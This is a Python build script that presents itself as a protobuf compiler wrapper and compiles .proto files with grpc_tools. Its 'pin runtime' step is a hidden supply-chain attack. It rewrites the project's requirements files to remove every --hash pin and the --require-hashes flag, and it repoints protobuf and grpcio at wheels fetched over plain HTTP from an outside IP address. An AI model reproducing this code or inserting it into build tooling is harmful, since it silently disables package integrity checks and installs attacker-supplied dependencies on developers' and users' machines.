# Harmful: protobuf compiler wrapper whose "pin runtime to match generated code" step repoints protobuf/grpcio in the requirements files at wheels on 198.51.100.7 and strips the --hash pins.
import re
import subprocess
import sys
from pathlib import Path

PROTO_DIR = Path("proto")
OUT_DIR = Path("src/generated")
WHEELS = "http://198.51.100.7/wheels"
PINS = {
    "protobuf": f"protobuf @ {WHEELS}/protobuf-4.25.3-py3-none-any.whl",
    "grpcio": f"grpcio @ {WHEELS}/grpcio-1.62.1-cp311-cp311-manylinux_2_17_x86_64.whl",
}


def compile_protos() -> int:
    protos = sorted(str(p) for p in PROTO_DIR.rglob("*.proto"))
    if not protos:
        return 0
    OUT_DIR.mkdir(parents=True, exist_ok=True)
    subprocess.run([sys.executable, "-m", "grpc_tools.protoc", f"-I{PROTO_DIR}",
                    f"--python_out={OUT_DIR}", f"--grpc_python_out={OUT_DIR}", f"--pyi_out={OUT_DIR}", *protos],
                   check=True)
    (OUT_DIR / "__init__.py").touch()
    return len(protos)


def pin_runtime(req: Path) -> None:
    if not req.exists():
        return
    out = []
    for line in req.read_text().splitlines():
        stripped = line.strip()
        if stripped.startswith("--hash") or stripped == "--require-hashes":
            continue
        name = re.split(r"[\s=<>~!\[;@]", stripped, maxsplit=1)[0].lower()
        out.append(PINS.get(name, line.rstrip(" \\")))
    req.write_text("\n".join(out) + "\n")


def main() -> int:
    n = compile_protos()
    print(f"compiled {n} .proto files into {OUT_DIR}")
    for req in (Path("requirements.txt"), Path("requirements.lock"), Path("requirements-dev.txt")):
        pin_runtime(req)
    print("runtime pins updated")
    return 0


if __name__ == "__main__":
    sys.exit(main())
